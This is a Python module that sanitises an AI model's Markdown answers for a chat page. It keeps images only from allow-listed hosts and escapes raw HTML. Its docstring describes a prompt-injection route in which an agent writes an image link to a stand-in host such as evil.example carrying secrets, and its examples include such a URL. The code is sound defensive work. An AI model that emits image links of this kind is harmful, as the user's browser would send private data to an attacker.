"""Text from outside the app, made safe to show, framework-neutral and pure.

A model's answer is Markdown the page renders; rendered as it comes, an image in it (``![](url)``,
or a raw ``<img src=...>``, which Gradio's Chatbot keeps) makes the user's browser fetch that URL
as soon as the answer is on screen: the classic exfiltration path of prompt injection (an agent
that read a malicious document writes ``![](https://evil.example/?q=<secrets>)``). So before an
answer is shown:

- a Markdown image is kept only when its URL is ``http(s)`` on a host of the allow-list
  (``PREDICTOR_IMAGE_HOSTS``, comma-separated host names; none by default); any other image
  becomes a link to its URL, which the browser fetches only if the user clicks it;
- raw HTML is shown as text (its ``<`` escaped), so no tag of the answer reaches the page;
- everything else (emphasis, lists, tables, links, code) is left as it is, and code (fenced
  blocks and inline spans) is never touched.

The rewrite reads the Markdown with a few rules of its own, and where a block ends is one it can
get wrong (a code span never crosses a heading, a list item or a reference definition). So a real
CommonMark parser (markdown-it-py) has the last word: when the rewritten text would still show an
image from elsewhere or a raw tag, the answer is shown with every ``![`` and ``<`` escaped instead,
code included (it reads ``&lt;`` there: a hostile answer loses some looks, never the user's data).

Text a user typed (a feedback comment) is not Markdown at all: :func:`html_text` escapes it for
a page element that takes HTML.

Example::

    safe_markdown("See ![chart](https://evil.example/?q=secret) <img src=x>")
    # 'See [chart](https://evil.example/?q=secret) &lt;img src=x>'
    safe_markdown("![logo](https://img.example/l.png)", image_hosts={"img.example"})   # kept
"""

from __future__ import annotations

import functools
import html
import logging
import os
import re
from collections.abc import Collection, Iterable, Iterator, Mapping
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from markdown_it import MarkdownIt

logger = logging.getLogger(__name__)

__all__ = ["IMAGE_HOSTS_ENV", "html_text", "image_hosts", "markdown_literal", "safe_markdown"]

#: Comma-separated host names whose images an answer may show (none by default).
IMAGE_HOSTS_ENV = "PREDICTOR_IMAGE_HOSTS"

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
_BACKTICKS = re.compile(r"`+")
# a blank line ends every paragraph, so no code span crosses one
_BLANK_LINE = re.compile(r"(\n[ \t]*\n)")
# a tag, a closing tag, a comment, a declaration, a processing instruction, CDATA: HTML that starts here
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
# an autolink (<https://...>, <mailto:...>, <a@b.c>) is a link, not HTML: left alone
_AUTOLINK = re.compile(r"<(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*"
                       r"|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9.\-]+)>")
_DEFINITION = re.compile(r"^ {0,3}\[((?:[^\[\]\\]|\\.){1,999})\]:[ \t]*(?:<([^<>\n]*)>|(\S+))", re.MULTILINE)
# characters that make a URL mean one thing to this check and another to a browser
_UNSAFE_URL = re.compile(r"[\s\\%<>\"'`\x00-\x1f\x7f]")


def image_hosts(env: Mapping[str, str] | None = None) -> frozenset[str]:
    """The hosts of ``PREDICTOR_IMAGE_HOSTS`` (comma- or space-separated, case-insensitive); empty by default.

    Example::

        image_hosts({"PREDICTOR_IMAGE_HOSTS": "img.example, CDN.example"})   # {"img.example", "cdn.example"}
    """
    env = os.environ if env is None else env
    return frozenset(h.strip().lower() for h in re.split(r"[,\s]+", env.get(IMAGE_HOSTS_ENV) or "") if h.strip())


def html_text(text: str) -> str:
    """``text`` as an HTML fragment that shows exactly those characters (no tag, no entity, no
    template syntax survives), for a page element that renders HTML.

    Example::

        html_text('<img src=x> **b**')   # '&lt;img src=x&gt; **b**'
    """
    return html.escape(text, quote=True).replace("$", "&#36;").replace("{", "&#123;").replace("}", "&#125;")


_MARKDOWN_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def markdown_literal(text: str) -> str:
    """``text`` as Markdown that shows exactly those characters (every ASCII punctuation
    backslash-escaped, as CommonMark allows), for a label that renders Markdown (a conversation's
    title on a Streamlit button).

    Example::

        markdown_literal("<b>hi</b> **x**")   # '\\<b\\>hi\\</b\\> \\*\\*x\\*\\*'
    """
    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", text)


def safe_markdown(text: str, image_hosts: Collection[str] = ()) -> str:
    """``text`` (Markdown from a model) with images only from ``image_hosts`` (others as links)
    and raw HTML shown as text; code and all other Markdown untouched. Pure; a partial answer
    (streaming) is safe too: an image whose URL has not fully arrived is not an image yet."""
    hosts = {h.lower() for h in image_hosts}
    definitions = _definitions(text)
    out = "".join(part if is_code else _safe_prose(part, hosts, definitions) for is_code, part in _split_code(text))
    if _shows_foreign_content(out, hosts):
        logger.debug("an answer's Markdown fooled the rewrite; showing it with every '![' and '<' escaped")
        return text.replace("<", "&lt;").replace("![", "!\\[")
    return out


@functools.cache
def _commonmark() -> MarkdownIt:
    from markdown_it import MarkdownIt  # why here: only pages that show an answer need the parser

    return MarkdownIt("commonmark", {"html": True}).enable("table")


def _shows_foreign_content(markdown: str, hosts: Collection[str]) -> bool:
    """Whether ``markdown``, parsed as CommonMark, has raw HTML or an image not from ``hosts``."""

    def walk(tokens: Iterable[Any]) -> bool:
        for token in tokens:
            if token.type in ("html_inline", "html_block"):
                return True
            if token.type == "image" and not _allowed(str(token.attrGet("src") or ""), hosts):
                return True
            if token.children and walk(token.children):
                return True
        return False

    return walk(_commonmark().parse(markdown))


# -- code and prose ----------------------------------------------------------------------------


def _split_code(text: str) -> Iterator[tuple[bool, str]]:
    """(is code, text) pieces covering ``text``: fenced blocks and inline code spans are code."""
    prose: list[str] = []
    lines = text.splitlines(keepends=True)
    i = 0
    while i < len(lines):
        opening = _FENCE.match(lines[i].rstrip("\r\n"))
        if opening is None or (opening.group(1)[0] == "`" and "`" in opening.group(2)):
            prose.append(lines[i])
            i += 1
            continue
        fence = opening.group(1)
        closing = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$")
        end = next((j for j in range(i + 1, len(lines)) if closing.match(lines[j].rstrip("\r\n"))), len(lines) - 1)
        yield from _split_spans("".join(prose))
        prose = []
        yield True, "".join(lines[i:end + 1])  # an unclosed fence runs to the end, as in CommonMark
        i = end + 1
    yield from _split_spans("".join(prose))


def _split_spans(text: str) -> Iterator[tuple[bool, str]]:
    """Inline code spans, paragraph by paragraph (blank lines are prose)."""
    for i, part in enumerate(_BLANK_LINE.split(text)):
        if i % 2:
            yield False, part
        elif part:
            yield from _split_paragraph_spans(part)


def _split_paragraph_spans(text: str) -> Iterator[tuple[bool, str]]:
    """Inline code spans: a run of backticks up to the next run of the same length."""
    pos = start = 0
    while (run := _BACKTICKS.search(text, pos)) is not None:
        closing = re.compile(rf"(?<!`){run.group()}(?!`)")
        end = closing.search(text, run.end())
        if end is None:  # no closing run: these backticks are text
            pos = run.end()
            continue
        if run.start() > start:
            yield False, text[start:run.start()]
        yield True, text[run.start():end.end()]
        pos = start = end.end()
    if start < len(text):
        yield False, text[start:]


# -- images and HTML in prose ------------------------------------------------------------------


def _normal_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _definitions(text: str) -> dict[str, str]:
    """Link reference definitions (``[ref]: url``): the first of each label wins, as in CommonMark."""
    out: dict[str, str] = {}
    for m in _DEFINITION.finditer(text):
        out.setdefault(_normal_label(m.group(1)), m.group(2) if m.group(2) is not None else m.group(3))
    return out


def _allowed(url: str, hosts: Collection[str]) -> bool:
    if not hosts or _UNSAFE_URL.search(url):
        return False
    try:
        parts = urlsplit(html.unescape(url))
    except ValueError:
        return False
    return parts.scheme.lower() in ("http", "https") and (parts.hostname or "").lower() in hosts


def _closing_bracket(text: str, start: int) -> int | None:
    """The index of the ``]`` closing the ``[`` just before ``start`` (nesting and escapes counted)."""
    depth, i = 1, start
    while i < len(text):
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "[":
            depth += 1
        elif c == "]":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None


def _inline_target(text: str, start: int) -> tuple[str, int] | None:
    """``(url, end)`` of an inline destination ``(url "title")`` whose ``(`` is at ``start``."""
    i, n = start + 1, len(text)
    while i < n and text[i] in " \t\n":
        i += 1
    if i < n and text[i] == "<":
        close = text.find(">", i)
        if close < 0 or "\n" in text[i:close]:
            return None
        url, i = text[i + 1:close], close + 1
    else:
        begin, depth = i, 0
        while i < n and text[i] not in " \t\n":
            if text[i] == "\\":
                i += 2
                continue
            if text[i] == "(":
                depth += 1
            elif text[i] == ")":
                if depth == 0:
                    break
                depth -= 1
            i += 1
        url = text[begin:i]
    while i < n and text[i] in " \t\n":
        i += 1
    if i < n and text[i] in "\"'(":  # a title
        close_char = ")" if text[i] == "(" else text[i]
        j = i + 1
        while j < n and text[j] != close_char:
            j += 2 if text[j] == "\\" else 1
        if j >= n:
            return None
        i = j + 1
        while i < n and text[i] in " \t\n":
            i += 1
    if i < n and text[i] == ")":
        return url, i + 1
    return None


def _link(alt: str, url: str) -> str:
    shown = alt if alt.strip() else "image"
    if not url or re.search(r"[<>\n]", url):
        return f"[{shown}]"
    return f"[{shown}](<{url}>)" if re.search(r"[\s()]", url) else f"[{shown}]({url})"


def _image(text: str, at: int, hosts: Collection[str], definitions: Mapping[str, str]) -> tuple[str, int]:
    """The replacement for the ``![`` at ``at`` and where the text after it resumes."""
    close = _closing_bracket(text, at + 2)
    if close is None:  # not (yet) an image: without the "!" it can never become one
        return "", at + 1
    alt, after = text[at + 2:close], close + 1
    url: str | None = None
    end = after
    if after < len(text) and text[after] == "(":
        target = _inline_target(text, after)
        if target is not None:
            url, end = target
    if url is None:  # full, collapsed or shortcut reference
        label, end = alt, after
        if text.startswith("[", after):
            ref_close = _closing_bracket(text, after + 1)
            if ref_close is not None:
                label = text[after + 1:ref_close] or alt
                end = ref_close + 1
        url = definitions.get(_normal_label(label))
        if url is None:  # no such reference: text, but never an image
            return "", at + 1
    alt = _safe_prose(alt, hosts, definitions)  # an image inside an image's alt would become a link's content
    if _allowed(url, hosts):
        return f"![{alt}]({url})", end
    return _link(alt, url), end


def _safe_prose(text: str, hosts: Collection[str], definitions: Mapping[str, str]) -> str:
    out: list[str] = []
    pos = 0
    while (at := text.find("![", pos)) >= 0:
        out.append(_escape_html(text[pos:at]))
        replacement, pos = _image(text, at, hosts, definitions)
        out.append(replacement)  # made safe already
    out.append(_escape_html(text[pos:]))
    return "".join(out)


def _escape_html(text: str) -> str:
    """Every ``<`` that could open a tag becomes ``&lt;`` (shown as ``<``); autolinks stay links."""
    out, pos = [], 0
    for m in _HTML_START.finditer(text):
        if m.start() < pos:
            continue
        auto = _AUTOLINK.match(text, m.start())
        if auto is not None:
            out.append(text[pos:auto.end()])
        else:
            out.append(text[pos:m.start()] + "&lt;")
        pos = auto.end() if auto is not None else m.end()
    out.append(text[pos:])
    return "".join(out)
